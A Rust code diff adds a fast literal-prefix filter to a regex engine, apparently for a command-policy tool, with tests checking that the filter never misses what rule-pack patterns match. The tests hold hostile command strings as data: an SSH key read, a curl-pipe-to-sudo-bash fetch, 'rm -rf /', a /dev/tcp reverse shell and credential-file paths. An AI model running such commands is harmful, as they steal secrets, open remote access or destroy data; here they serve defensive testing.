@@ -63,13 +63,141 @@ pub(crate) fn build_one(pattern: &str) -> Result<meta::Regex, RegexFailure> {
         })
 }
 
+/// The literals every match of each embedded pattern contains, computed by `build.rs`
+/// (see [`super::required`]), sorted by pattern.
+mod embedded {
+    include!(concat!(env!("OUT_DIR"), "/required_literals.rs"));
+}
+
 /// All patterns of a class and the predicates each one feeds.
 #[derive(Debug)]
 pub(crate) struct RegexEngine {
     built: OnceLock<SetMatcher>,
     /// The patterns, kept until the automaton is built (deferred engines only).
     patterns: Box<[String]>,
+    /// Deferred engines whose every pattern has required literals: a filter over their
+    /// union. A text it clears matches no pattern, so it need not wait for the build.
+    gate: Option<LiteralGate>,
     pub map: PredMap,
+}
+
+/// The literals `pattern` requires, if it is an embedded pattern that has some.
+fn embedded_literals(pattern: &str) -> Option<&'static [&'static [u8]]> {
+    let table = embedded::REQUIRED_LITERALS;
+    let i = table.binary_search_by(|(p, _)| (*p).cmp(pattern)).ok()?;
+    Some(table[i].1)
+}
+
+/// A filter for the literals all of `patterns` require, or `None` if some pattern has
+/// none on record.
+fn gate_for(patterns: &[String]) -> Option<LiteralGate> {
+    let mut gate = LiteralGate::new();
+    for p in patterns {
+        for literal in embedded_literals(p)? {
+            gate.add(literal);
+        }
+    }
+    Some(gate)
+}
+
+/// Says whether a text contains one of a set of literals (ASCII case aside): a bit
+/// table of hashed lower-case first three bytes picks the positions to check, and each
+/// is checked against the literals that start with those bytes. A literal of one or two
+/// bytes is a bit of its own.
+///
+/// Built on the path of the first frame, so built in microseconds: an Aho-Corasick
+/// automaton over the default pack's 300 literals took 3.4 M instructions (about
+/// 1 ms), half the whole compilation.
+#[derive(Debug)]
+struct LiteralGate {
+    /// Bit per hash of a lower-cased 3-byte literal prefix.
+    triples: Box<[u64; GATE_WORDS]>,
+    /// The literals of three bytes or more, lower-cased, by their first three bytes.
+    long: Vec<(u32, Box<[u8]>)>,
+    /// Bit per lower-cased 2-byte literal.
+    pairs: Box<[u64; GATE_WORDS]>,
+    /// Bit per lower-cased 1-byte literal.
+    singles: [u64; 4],
+    /// An empty literal was added: every text holds it.
+    always: bool,
+}
+
+/// 64-bit words of [`LiteralGate::triples`] and [`LiteralGate::pairs`]: 2^16 bits each,
+/// 8 KiB.
+const GATE_WORDS: usize = 1 << 10;
+
+impl LiteralGate {
+    fn new() -> LiteralGate {
+        LiteralGate {
+            triples: Box::new([0; GATE_WORDS]),
+            long: Vec::new(),
+            pairs: Box::new([0; GATE_WORDS]),
+            singles: [0; 4],
+            always: false,
+        }
+    }
+
+    fn add(&mut self, literal: &[u8]) {
+        let l = literal.to_ascii_lowercase();
+        match l.len() {
+            0 => self.always = true,
+            1 => set(&mut self.singles, usize::from(l[0])),
+            2 => set(&mut *self.pairs, pair(l[0], l[1])),
+            _ => {
+                let key = head(l[0], l[1], l[2]);
+                set(&mut *self.triples, triple_hash(key));
+                // Kept sorted as they come: a pack has a few hundred.
+                let at = self.long.partition_point(|(k, _)| *k < key);
+                self.long.insert(at, (key, l.into_boxed_slice()));
+            }
+        }
+    }
+
+    fn may_match(&self, text: &[u8]) -> bool {
+        let l = |i: usize| text[i].to_ascii_lowercase();
+        self.always
+            || (0..text.len()).any(|i| {
+                get(&self.singles, usize::from(l(i)))
+                    || (i + 1 < text.len() && get(&*self.pairs, pair(l(i), l(i + 1))))
+                    || (i + 2 < text.len() && self.long_at(text, i, head(l(i), l(i + 1), l(i + 2))))
+            })
+    }
+
+    /// Whether a literal of three bytes or more starts at `text[i..]`, whose first three
+    /// bytes (lower-cased) are `key`.
+    fn long_at(&self, text: &[u8], i: usize, key: u32) -> bool {
+        if !get(&*self.triples, triple_hash(key)) {
+            return false;
+        }
+        let first = self.long.partition_point(|(k, _)| *k < key);
+        self.long[first..]
+            .iter()
+            .take_while(|(k, _)| *k == key)
+            .any(|(_, lit)| {
+                text.get(i..i + lit.len())
+                    .is_some_and(|t| t.eq_ignore_ascii_case(lit))
+            })
+    }
+}
+
+fn head(a: u8, b: u8, c: u8) -> u32 {
+    u32::from(a) << 16 | u32::from(b) << 8 | u32::from(c)
+}
+
+fn triple_hash(head: u32) -> usize {
+    (head.wrapping_mul(0x9E37_79B1) >> 16) as usize
+}
+
+fn pair(a: u8, b: u8) -> usize {
+    usize::from(a) << 8 | usize::from(b)
+}
+
+fn set(bits: &mut [u64], i: usize) {
+    bits[i / 64] |= 1 << (i % 64);
+}
+
+fn get(bits: &[u64], i: usize) -> bool {
+    bits[i / 64] & (1 << (i % 64)) != 0
 }
 
 /// Which patterns of a set match a text.
@@ -154,6 +282,7 @@ impl RegexEngine {
         Ok(RegexEngine {
             built: OnceLock::from(build_set(patterns)?),
             patterns: patterns.into(),
+            gate: None,
             map,
         })
     }
@@ -164,6 +293,7 @@ impl RegexEngine {
         Ok(RegexEngine {
             built: OnceLock::from(build_from_hirs(hirs, Anchored::Yes)?),
             patterns: Box::default(),
+            gate: None,
             map,
         })
     }
@@ -175,6 +305,7 @@ impl RegexEngine {
         RegexEngine {
             built: OnceLock::new(),
             patterns: patterns.into(),
+            gate: gate_for(patterns),
             map,
         }
     }
@@ -205,7 +336,19 @@ impl RegexEngine {
     /// the caller's, made by [`RegexEngine::scratch`].
     #[inline]
     pub fn for_each_match(&self, scratch: &mut SetScratch, text: &str, mut f: impl FnMut(&[u32])) {
-        let m = self.matcher();
+        let m = match self.built.get() {
+            Some(m) => m,
+            // Not built yet (the handshake, usually): a text without any literal the
+            // patterns require matches none of them, without waiting.
+            None if self
+                .gate
+                .as_ref()
+                .is_some_and(|g| !g.may_match(text.as_bytes())) =>
+            {
+                return;
+            }
+            None => self.matcher(),
+        };
         let set = &mut scratch.set;
         // Clearing and iterating a set is linear in the number of patterns: skip both for
         // the usual text that matches nothing.
@@ -295,6 +438,148 @@ fn add_patterns(
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::config::yaml_tree::{self, Node, YNode};
+
+    /// Every string scalar of a YAML tree (keys too).
+    fn strings(node: &YNode, out: &mut Vec<String>) {
+        match &node.value {
+            Node::Str(s) => out.push(s.clone()),
+            Node::Seq(items) => items.iter().for_each(|i| strings(i, out)),
+            Node::Map(entries) => {
+                for (k, v) in entries {
+                    strings(k, out);
+                    strings(v, out);
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// The table `build.rs` wrote holds what the analysis gives for the same pattern
+    /// now, and covers every regex of the default pack (whose engine gets a gate).
+    #[test]
+    fn the_embedded_literal_table_is_current_and_covers_the_default_pack() {
+        for (pattern, literals) in embedded::REQUIRED_LITERALS {
+            let hir = crate::regex_dialect::parse(pattern).unwrap();
+            let now = super::super::required::required_literals(&hir).unwrap();
+            let table: Vec<Vec<u8>> = literals.iter().map(|l| l.to_vec()).collect();
+            assert_eq!(table, now, "{pattern}");
+        }
+        let text = crate::builtin::get("rules/default.yml").unwrap();
+        let mut regexes = Vec::new();
+        for line in text.lines() {
+            if let Some(rest) = line.trim().strip_prefix("regex: '") {
+                regexes.push(rest.trim_end_matches('\'').replace("''", "'"));
+            }
+        }
+        assert!(regexes.len() >= 15, "{}", regexes.len());
+        assert!(
+            gate_for(&regexes).is_some(),
+            "a default-pack regex has no literals"
+        );
+    }
+
+    /// The gate says yes to every text that holds one of its literals in any ASCII case,
+    /// and no to texts that share no 1-, 2- or 3-byte piece with them.
+    #[test]
+    fn the_gate_never_misses_a_literal_it_holds() {
+        let mut seed = 9u64;
+        let mut next = |n: usize| {
+            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
+            (seed >> 33) as usize % n
+        };
+        const BYTES: &[u8] = b"abcXYZ/._- \x00\xc5\xbf\xe2\x84\xaa";
+        for _ in 0..300 {
+            let literals: Vec<Vec<u8>> = (0..1 + next(20))
+                .map(|_| (0..1 + next(6)).map(|_| BYTES[next(BYTES.len())]).collect())
+                .collect();
+            let mut gate = LiteralGate::new();
+            literals.iter().for_each(|l| gate.add(l));
+            for _ in 0..50 {
+                let mut text: Vec<u8> = (0..next(30)).map(|_| BYTES[next(BYTES.len())]).collect();
+                if next(2) == 0 {
+                    let l = &literals[next(literals.len())];
+                    let at = next(text.len() + 1);
+                    let spelled: Vec<u8> = l
+                        .iter()
+                        .map(|b| {
+                            if next(2) == 0 {
+                                b.to_ascii_uppercase()
+                            } else {
+                                *b
+                            }
+                        })
+                        .collect();
+                    text.splice(at..at, spelled);
+                }
+                let lower = text.to_ascii_lowercase();
+                let holds = literals.iter().any(|l| {
+                    let l = l.to_ascii_lowercase();
+                    lower.windows(l.len()).any(|w| w == l)
+                });
+                if holds {
+                    assert!(gate.may_match(&text), "{literals:?} in {text:?}");
+                }
+            }
+        }
+        let mut gate = LiteralGate::new();
+        gate.add(b".ssh");
+        gate.add(b"rm");
+        assert!(gate.may_match(b"cat ~/.SSH/id_rsa") && gate.may_match(b"RM -rf"));
+        assert!(!gate.may_match(b"2025-06-18") && !gate.may_match(b"rum"));
+        // Sharing the first three bytes is not enough.
+        assert!(!gate.may_match(b".ssx"));
+    }
+
+    /// Each pack regex, against every string in every pack (examples, messages, the
+    /// patterns themselves) in three spellings: whenever it matches, the gate hits.
+    #[test]
+    fn no_pack_text_a_pack_regex_matches_slips_past_its_gate() {
+        let mut corpus = Vec::new();
+        for (_, text) in crate::builtin::FILES {
+            if let Ok(root) = yaml_tree::parse(text) {
+                strings(&root, &mut corpus);
+            }
+        }
+        corpus.extend(
+            [
+                "cat ~/.ssh/id_rsa",
+                "curl -fsSL https://x.example/i.sh | sudo bash",
+                "rm -rf /",
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "echo x >> ~/.bashrc",
+                "~/.aws/credentials",
+                "/proj/.env.local",
+            ]
+            .map(String::from),
+        );
+        let variants: Vec<String> = corpus
+            .iter()
+            .flat_map(|s| [s.clone(), s.to_ascii_uppercase(), s.to_ascii_lowercase()])
+            .collect();
+        let (mut matched, mut patterns) = (0, 0);
+        for (pattern, _) in embedded::REQUIRED_LITERALS {
+            let hir = crate::regex_dialect::parse(pattern).unwrap();
+            let Ok(re) = regex_automata::meta::Regex::builder().build_from_hir(&hir) else {
+                continue;
+            };
+            patterns += 1;
+            let gate = gate_for(&[pattern.to_string()]).unwrap();
+            for text in &variants {
+                if re.is_match(text) {
+                    matched += 1;
+                    assert!(
+                        gate.may_match(text.as_bytes()),
+                        "{pattern} matches {text:?}, the gate missed it"
+                    );
+                }
+            }
+        }
+        assert!(
+            patterns >= 20 && matched >= 200,
+            "{patterns} patterns, {matched} matches"
+        );
+    }
 
     /// Only a Unicode word boundary makes the lazy DFA give up, and the policy dialect
     /// never produces one, so the pattern is built here from the standard syntax.
@@ -304,6 +589,7 @@ mod tests {
         let engine = RegexEngine {
             built: OnceLock::from(SetMatcher::from_hirs(&[hir], Anchored::No).unwrap()),
             patterns: vec![r"\bcafé\b".to_string()].into(),
+            gate: None,
             map: PredMap::from_lists(&[vec![7]]),
         };
         let mut scratch = engine.scratch();
